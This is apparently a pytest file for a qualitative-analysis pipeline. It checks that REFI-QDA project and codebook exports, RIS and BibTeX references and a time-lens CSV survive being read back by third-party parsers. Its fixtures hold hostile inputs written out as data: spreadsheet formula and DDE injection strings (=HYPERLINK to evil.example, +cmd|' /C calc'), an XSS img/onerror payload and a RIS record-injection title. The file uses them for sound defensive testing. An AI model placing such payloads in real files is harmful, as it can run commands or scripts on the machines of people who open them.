"""Hand-offs (#25): the REFI-QDA project and codebook, and the reference lists, read back by
maintained third-party readers (pyrefiqda's schema-generated REFI-QDA models, rispy,
bibtexparser), on a small store with hostile text and on the bundled corpus."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from pipelines import store
from pipelines.analysis.results import annotate_theme, rename_theme, themes_with_edits
from pipelines.analysis.run import run_analysis
from pipelines.cli import main
from pipelines.embed.embedders import HashEmbedder, embed_missing
from pipelines.handoff.common import xml_text
from pipelines.ingest.files import ingest_paths

ROOT = Path(__file__).resolve().parent.parent
NS = {"q": "urn:QDA-XML:project:1.0"}
PER_FIELD = 24
HOSTILE_TITLE = '=HYPERLINK("http://evil.example","x") <b>Recovery</b> & "desistance" {50%} \\o/'
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") recovery means hope & <identity> ]]>',
    "+cmd|' /C calc'!A0 recovery housing work {braces} and 100% of #people",
    "@SUM(1+1) peer support \U0001f600 with an emoji and a quote's end",
]
# Written into the store directly: ingest drops control characters, but a store filled by
# another route (or an older version) may hold them, and XML cannot.
CONTROL_TEXT = "control\x01characters\x0b in\x1f text\r\nacross a CRLF recovery"


def _small_corpus(folder: Path) -> tuple[Path, Path]:
    """The first excerpts of each field of the bundled corpus, their sources, and a hostile source."""
    with open(ROOT / "corpus" / "excerpts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    kept, per_field = [], {}
    for row in rows:
        if per_field.get(row["field"], 0) < PER_FIELD:
            per_field[row["field"]] = per_field.get(row["field"], 0) + 1
            kept.append(row)
    for i, text in enumerate(HOSTILE_TEXTS):
        kept.append(
            {
                "id": f"=evil{i}",
                "source_id": "evil",
                "field": "criminal_justice",
                "kind": "",
                "page": "",
                "text": text,
            }
        )
    with open(ROOT / "corpus" / "sources.csv", encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        columns = reader.fieldnames
        wanted = {r["source_id"] for r in kept}
        sources = [r for r in reader if r["source_id"] in wanted]
    sources.append(
        {c: "" for c in columns}
        | {
            "source_id": "evil",
            "authors": "=Evil, A.; O'Brien, B. & {Co}; Evil Corp & Sons",
            "year": "2020",
            "title": HOSTILE_TITLE,
            "venue": "@Journal <of> Tests",
            "evidence_type": "grey",
        }
    )
    excerpts_path, sources_path = folder / "excerpts.csv", folder / "sources.csv"
    for path, fieldnames, data in (
        (excerpts_path, list(kept[0]), kept),
        (sources_path, columns, sources),
    ):
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=fieldnames)
            writer.writeheader()
            writer.writerows(data)
    return excerpts_path, sources_path


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """A small built store: a few bundled excerpts per field, a hostile source, a renamed theme
    with a hostile note, and one excerpt holding control characters."""
    folder = tmp_path_factory.mktemp("handoff")
    path = folder / "store.sqlite"
    conn = store.connect(path)
    excerpts_path, sources_path = _small_corpus(folder)
    ingest_paths(conn, [excerpts_path], sources_path=sources_path)
    embedder = HashEmbedder()
    embed_missing(conn, embedder)
    run_analysis(conn, embedder=embedder, frameworks=None, seed=3)
    theme = themes_with_edits(conn)[0][0]
    rename_theme(conn, theme.key, "=SUM(A1) <renamed> & \x02")
    annotate_theme(conn, theme.key, 'Note with <xml> & "quotes" ]]> =HYPERLINK("x")')
    target = conn.execute("SELECT id FROM excerpts ORDER BY id LIMIT 1").fetchone()[0]
    with store.transaction(conn):
        conn.execute("UPDATE excerpts SET text = ? WHERE id = ?", (CONTROL_TEXT, target))
    return path


def _export(db: Path, what: str, out: Path, *extra: str) -> Path:
    assert main(["export", what, "--db", str(db), "--out", str(out), *extra]) == 0
    return out


def _selections(qdpx: Path) -> dict[str, tuple[str, list[str]]]:
    """Selection name -> (its text cut from its source's file, the names of its codes)."""
    with zipfile.ZipFile(qdpx) as archive:
        root = ET.fromstring(archive.read("project.qde"))
        codes = {c.get("guid"): c.get("name") for c in root.iterfind(".//q:Code", NS)}
        out = {}
        for source in root.iterfind(".//q:TextSource", NS):
            member = source.get("plainTextPath").removeprefix("internal://")
            text = archive.read(f"sources/{member}").decode("utf-8")
            for sel in source.iterfind("q:PlainTextSelection", NS):
                start, end = int(sel.get("startPosition")), int(sel.get("endPosition"))
                names = [codes[c.get("targetGUID")] for c in sel.iterfind("q:Coding/q:CodeRef", NS)]
                out[sel.get("name")] = (text[start:end], names)
    return out


def test_every_selection_is_its_excerpt_coded_with_its_themes_and_concepts(small, tmp_path):
    qdpx = _export(small, "project", tmp_path / "study.qdpx")
    conn = store.connect(small)
    frame = store.excerpts(conn)
    fine = {t.key: t.label for t in themes_with_edits(conn, level=2)[0]}
    broad = {t.key: t.label for t in themes_with_edits(conn, level=1)[0]}
    _, fine_of = themes_with_edits(conn, level=2)
    _, broad_of = themes_with_edits(conn, level=1)
    selections = _selections(qdpx)
    assert len(selections) == len(frame)
    for row in frame.itertuples():
        text, code_names = selections[row.external_id]
        assert text == xml_text(row.text)
        assert xml_text(fine[fine_of[str(row.excerpt_id)]]) in code_names
        assert xml_text(broad[broad_of[str(row.excerpt_id)]]) in code_names
    hostile = [selections[f"=evil{i}"][0] for i in range(len(HOSTILE_TEXTS))]
    assert hostile == HOSTILE_TEXTS  # kept verbatim: a QDA project runs no formulas
    assert "control" in selections[frame.iloc[0]["external_id"]][0]
    assert "\x01" not in selections[frame.iloc[0]["external_id"]][0]


def test_a_schema_driven_reader_loads_the_project(small, tmp_path):
    from pyrefiqda import RefiProject

    qdpx = _export(small, "project", tmp_path / "study.qdpx")
    project = RefiProject.load(qdpx, extract_dir=str(tmp_path / "extracted"))
    conn = store.connect(small)
    n_sources = conn.execute("SELECT COUNT(DISTINCT source_id) FROM excerpts").fetchone()[0]
    assert len(project.sources.text_source) == n_sources
    top = {c.name: c for c in project.code_book.codes.code}
    assert "Themes" in top and not top["Themes"].is_codable
    broad = top["Themes"].code
    assert broad and all(c.is_codable for c in broad)
    assert sum(len(b.code) for b in broad) == len(themes_with_edits(conn, level=2)[0])
    chime = next(c for c in top.values() if "CHIME" in c.name)
    assert chime.code and all(c.description for c in chime.code)
    names = {v.name for v in project.variables.variable}
    assert {"Field", "Evidence type", "Year"} <= names
    cases = {c.name for c in project.cases.case}
    assert "Field: Mental health" in cases and "Evidence: Grey literature" in cases
    notes = project.notes.note
    assert len(notes) == 1 and "]]>" in notes[0].plain_text_content
    evil = next(s for s in project.sources.text_source if "evil.example" in s.name)
    assert evil.name.endswith(HOSTILE_TITLE)


def test_guids_are_stable_across_exports_of_the_same_run(small, tmp_path):
    first = _export(small, "project", tmp_path / "a.qdpx")
    second = _export(small, "project", tmp_path / "b.qdpx")
    assert first.read_bytes() == second.read_bytes()
    guids = [
        e.get("guid") for e in ET.fromstring(zipfile.ZipFile(first).read("project.qde")).iter()
    ]
    guids = [g for g in guids if g]
    assert len(guids) > 100
    # Every GUID names one thing (the user is defined once and referred to elsewhere).
    assert len(set(guids)) == len(guids)


def test_a_failed_export_leaves_the_previous_file(small, tmp_path, monkeypatch):
    from pipelines.handoff import common

    out = _export(small, "project", tmp_path / "study.qdpx")
    before = out.read_bytes()

    def broken(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(common.os, "replace", broken)
    assert main(["export", "project", "--db", str(small), "--out", str(out)]) == 1
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["study.qdpx"]  # no temporary file left


def test_xml_text_drops_what_xml_cannot_carry():
    assert xml_text("a\x00b\x08c\x0bd\x1fe\ufffef\ud800g") == "abcdefg"
    assert xml_text("keep\ttab\nline\r\nend\rx") == "keep\ttab\nline\nend\nx"
    assert xml_text("\U0001f600 <&>") == "\U0001f600 <&>"


@pytest.mark.slow
def test_the_bundled_corpus_hands_off_every_file(tmp_path):
    from pyrefiqda import RefiProject

    db = tmp_path / "store.sqlite"
    assert (
        main(
            [
                "ingest",
                "--db",
                str(db),
                str(ROOT / "corpus" / "excerpts.csv"),
                "--sources",
                str(ROOT / "corpus" / "sources.csv"),
            ]
        )
        == 0
    )
    assert main(["build", "--db", str(db), "--model", "hash-256"]) == 0
    qdpx = _export(db, "project", tmp_path / "study.qdpx")
    frame = store.excerpts(store.connect(db))
    selections = _selections(qdpx)
    assert len(selections) == len(frame)
    for row in frame.itertuples():
        assert selections[row.external_id][0] == row.text
        assert len(selections[row.external_id][1]) >= 2  # a fine and a broad theme at least
    project = RefiProject.load(qdpx, extract_dir=str(tmp_path / "extracted"))
    assert len(project.sources.text_source) == frame["source_id"].nunique()
    _the_other_hand_offs_read_back(db, tmp_path, frame["source_id"].nunique())


def _the_other_hand_offs_read_back(db: Path, tmp_path: Path, n_sources: int) -> None:
    """References, codebook and time lens of the same store, read back by their readers."""
    import bibtexparser
    import pandas as pd
    import rispy
    from bibtexparser.middlewares import LatexDecodingMiddleware
    from pyrefiqda import RefiCodebook

    ris = _export(db, "references", tmp_path / "refs.ris")
    assert len(rispy.loads(ris.read_text(encoding="utf-8"))) == n_sources
    bib = _export(db, "references", tmp_path / "refs.bib")
    library = bibtexparser.parse_string(
        bib.read_text(encoding="utf-8"), append_middleware=[LatexDecodingMiddleware()]
    )
    assert not library.failed_blocks and len(library.entries) == n_sources
    qdc = _export(db, "codebook", tmp_path / "codes.qdc")
    assert "Themes" in [c.name for c in RefiCodebook.load(qdc).codes.code]
    lens = pd.read_csv(_export(db, "timelens", tmp_path / "lens.csv"))
    sums = lens[lens["dimension"] == "theme"].groupby(["field", "period"])["share"].sum()
    assert sums.round(9).eq(1).all()


def _sources(db: Path) -> dict[str, dict]:
    """Each source's title -> its row as the store holds it."""
    frame = store.excerpts(store.connect(db)).drop_duplicates("source_id")
    return {row["title"]: row for row in frame.to_dict("records")}


def test_references_read_back_with_rispy(small, tmp_path):
    import rispy

    out = _export(small, "references", tmp_path / "refs.ris", "--format", "ris")
    entries = rispy.loads(out.read_text(encoding="utf-8"))
    sources = _sources(small)
    assert len(entries) == len(sources)
    by_title = {e["title"]: e for e in entries}
    assert set(by_title) == {" ".join(t.split()) for t in sources}
    evil = by_title[HOSTILE_TITLE]  # formula prefix, markup and braces kept as they are
    assert evil["authors"] == ["=Evil, A.", "O'Brien, B. & {Co}", "Evil Corp & Sons"]
    assert evil["year"] == "2020"
    assert "evidence: Grey literature" in evil["keywords"]
    assert "field: Criminal justice" in evil["keywords"]
    for entry in entries:
        row = sources[next(t for t in sources if " ".join(t.split()) == entry["title"])]
        assert entry.get("doi", "") == (row["doi"] or "")


def test_references_read_back_with_bibtexparser(small, tmp_path):
    import bibtexparser
    from bibtexparser.middlewares import LatexDecodingMiddleware

    out = _export(small, "references", tmp_path / "refs.bib")
    library = bibtexparser.parse_string(
        out.read_text(encoding="utf-8"), append_middleware=[LatexDecodingMiddleware()]
    )
    assert not library.failed_blocks
    sources = _sources(small)
    assert len(library.entries) == len(sources)
    assert len({e.key for e in library.entries}) == len(sources)
    by_title = {e["title"]: e for e in library.entries}
    evil = by_title[HOSTILE_TITLE]
    assert evil.entry_type == "techreport"
    assert evil["author"] == "=Evil, A. and O'Brien, B. & {Co} and Evil Corp & Sons"
    assert evil["institution"] == "@Journal <of> Tests"
    # An organisation is braced, so BibTeX keeps it whole instead of taking "Sons" for a surname.
    assert r"and {Evil Corp \& Sons}}" in out.read_text(encoding="utf-8")


def test_a_line_break_in_a_title_cannot_end_a_reference(small, tmp_path):
    import rispy

    copy = tmp_path / "copy.sqlite"
    store.connect(small).execute(f"VACUUM INTO '{copy}'")
    conn = store.connect(copy)
    with store.transaction(conn):
        conn.execute(
            "UPDATE sources SET title = ? WHERE title = ?",
            ("Injected\nER  - \nTY  - JOUR\nTI  - forged\x07", HOSTILE_TITLE),
        )
    entries = rispy.loads(
        _export(copy, "references", tmp_path / "r.ris").read_text(encoding="utf-8")
    )
    assert len(entries) == len(_sources(small))
    assert "Injected ER - TY - JOUR TI - forged" in [e["title"] for e in entries]


NVIVO_CODEBOOK = """<?xml version="1.0" encoding="utf-8"?>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="NVivo 14">
 <Codes>
  <Code guid="11111111-1111-4111-8111-111111111111" name="Social world" isCodable="false">
   <Description>Group: people around the person</Description>
   <Code guid="22222222-2222-4222-8222-222222222222" name="Family &amp; &lt;kin&gt;" isCodable="true">
    <Description>Support from parents, partners and children =HYPERLINK("x")</Description>
   </Code>
   <Code guid="33333333-3333-4333-8333-333333333333" name="Peers" isCodable="true">
    <Code guid="44444444-4444-4444-8444-444444444444" name="Mutual aid" isCodable="true">
     <Description>Groups of people in recovery who help one another</Description>
    </Code>
   </Code>
  </Code>
  <Code guid="55555555-5555-4555-8555-555555555555" name="Hope" isCodable="true">
   <Description>Believing that a better life is possible</Description>
  </Code>
 </Codes>
</CodeBook>
"""


def test_the_codebook_export_reads_back_as_a_tree_and_as_concepts(small, tmp_path):
    from pyrefiqda import RefiCodebook

    from pipelines.analysis.concepts import load_frameworks
    from pipelines.analysis.contract import load_result
    from pipelines.analysis.results import current_run_id

    qdc = _export(small, "codebook", tmp_path / "team.qdc")
    conn = store.connect(small)
    frameworks = load_result(conn, current_run_id(conn), "frameworks")
    top = {c.name: c for c in RefiCodebook.load(qdc).codes.code}
    assert len(top) == len(frameworks) + 1 and "Themes" in top
    for framework in frameworks:
        codes = top[framework.label].code
        assert [c.name for c in codes] == [c.label for c in framework.concepts]
    noted = [b for b in top["Themes"].code for t in [b, *b.code] if "Note:" in t.description]
    assert noted  # the theme's note travels in its description
    back = load_frameworks([qdc])[-1]
    assert back.id == "team"
    expected = [c for f in frameworks for c in f.concepts]
    for concept, read in zip(expected, back.concepts, strict=False):
        assert (read.label, read.description) == (
            concept.label,
            " ".join(concept.description.split()),
        )
    assert len(back.concepts) == len(expected) + len(themes_with_edits(conn, level=1)[0]) + len(
        themes_with_edits(conn, level=2)[0]
    )


def test_a_qdc_codebook_becomes_a_framework(tmp_path):
    from pipelines.handoff.codebook import load_qdc

    path = tmp_path / "Team codes.qdc"
    path.write_text(NVIVO_CODEBOOK, encoding="utf-8")
    framework = load_qdc(path)
    assert framework.id == "team_codes" and framework.kind == "codebook"
    concepts = {c.label: c for c in framework.concepts}
    assert list(concepts) == ["Family & <kin>", "Peers", "Mutual aid", "Hope"]  # no group
    assert concepts["Family & <kin>"].key == "team_codes/family_kin"
    assert concepts["Family & <kin>"].description.endswith('=HYPERLINK("x")')
    assert concepts["Peers"].description == "Social world: Peers"  # none of its own


def test_build_tags_with_a_qdc_codebook(small, tmp_path):
    copy = tmp_path / "copy.sqlite"
    store.connect(small).execute(f"VACUUM INTO '{copy}'")
    codebook = tmp_path / "team codes.qdc"
    codebook.write_text(NVIVO_CODEBOOK, encoding="utf-8")
    assert main(["build", "--db", str(copy), "--concepts", str(codebook), "--full"]) == 0
    from pipelines.analysis.contract import load_result
    from pipelines.analysis.results import current_run_id

    conn = store.connect(copy)
    frameworks = {f.id: f for f in load_result(conn, current_run_id(conn), "frameworks")}
    assert len(frameworks["team_codes"].concepts) == 4
    rows = csv.DictReader(_export(copy, "concepts", tmp_path / "c.csv").open(encoding="utf-8"))
    assert any(row["concept"].startswith("team_codes/") for row in rows)


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ("<CodeBook", "not well-formed XML"),
        ('<Project xmlns="urn:QDA-XML:project:1.0" name="p"/>', "not a REFI-QDA CodeBook"),
        (
            '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
            '<Code guid="11111111-1111-4111-8111-111111111111" name="G" isCodable="false"/>'
            "</Codes></CodeBook>",
            "no code that can be coded",
        ),
        (
            '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
            '<Code guid="11111111-1111-4111-8111-111111111111" name=" " isCodable="true"/>'
            "</Codes></CodeBook>",
            "has no name",
        ),
    ],
)
def test_a_malformed_qdc_is_a_clear_error_and_changes_nothing(
    small, tmp_path, capsys, content, fragment
):
    from tests.conftest import dump

    before = dump(small)
    bad = tmp_path / "bad.qdc"
    bad.write_text(content, encoding="utf-8")
    assert main(["build", "--db", str(small), "--concepts", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "E026" in err and "bad.qdc" in err and fragment in err, err
    assert dump(small) == before


def test_the_time_lens_counts_shares_per_field_and_period_and_marks_small_cells():
    import pandas as pd

    from pipelines.handoff.timelens import Item, share_table

    # Field a: 12 excerpts in 2010-2014 (3 in the theme), 2 in 2015-2019 (both in it);
    # field b: 10 in 2012 (none in it); one undated excerpt in b.
    years = [2010] * 12 + [2016] * 2 + [2012] * 10 + [None]
    fields = ["a"] * 14 + ["b"] * 11
    facets = pd.DataFrame({"excerpt_id": range(25), "field": fields, "year": years})
    theme = Item("theme", "B1", "Hope", {0, 1, 2, 12, 13, 24})
    table = share_table(facets, [theme], field_labels={"a": "<A>"}, min_excerpts=10)
    cells = {(r.field, r.period): r for r in table.itertuples()}
    assert set(cells) == {("a", "2010-2014"), ("a", "2015-2019"), ("b", "2010-2014")}
    assert (cells["a", "2010-2014"].count, cells["a", "2010-2014"].excerpts) == (3, 12)
    assert cells["a", "2010-2014"].share == pytest.approx(0.25)
    assert cells["a", "2015-2019"].share == 1.0 and cells["a", "2015-2019"].small
    assert cells["b", "2010-2014"].share == 0.0 and not cells["b", "2010-2014"].small
    assert cells["b", "2010-2014"].undated == 1 and cells["a", "2010-2014"].field_label == "<A>"


def test_the_time_lens_figure_draws_no_trend_through_small_cells():
    import pandas as pd

    from pipelines.handoff.timelens import Item, lens_figure, share_table

    years = [2000] * 10 + [2005] * 2 + [2010] * 10
    facets = pd.DataFrame({"excerpt_id": range(22), "field": ["f"] * 22, "year": years})
    label = "<img src=x onerror=alert(1)> %{x}"
    table = share_table(facets, [Item("theme", "B1", "T", {0, 10})], field_labels={"f": label})
    figure = lens_figure(table, "B1")
    line, hollow = figure.data
    assert list(line.y)[1] is None or pd.isna(list(line.y)[1])  # the gap: no trend through it
    assert list(hollow.x) == ["2005-2009"] and hollow.marker.symbol == "circle-open"
    for trace in figure.data:
        assert "<img" not in trace.hovertemplate and "%{x}</extra>" not in trace.hovertemplate


def test_the_time_lens_export_covers_every_dated_excerpt(small, tmp_path):
    import pandas as pd

    out = _export(small, "timelens", tmp_path / "lens.csv")
    table = pd.read_csv(out)
    themes = table[table["dimension"] == "theme"]
    # Each excerpt is in exactly one broad theme: a cell's theme shares add up to one.
    sums = themes.groupby(["field", "period"])["share"].sum()
    assert sums.round(9).eq(1).all()
    facets = store.excerpt_facets(store.connect(small))
    cells = themes.drop_duplicates(["field", "period"])["excerpts"].sum()
    assert cells == facets["year"].notna().sum()
    assert {"theme", "concept"} == set(table["dimension"])
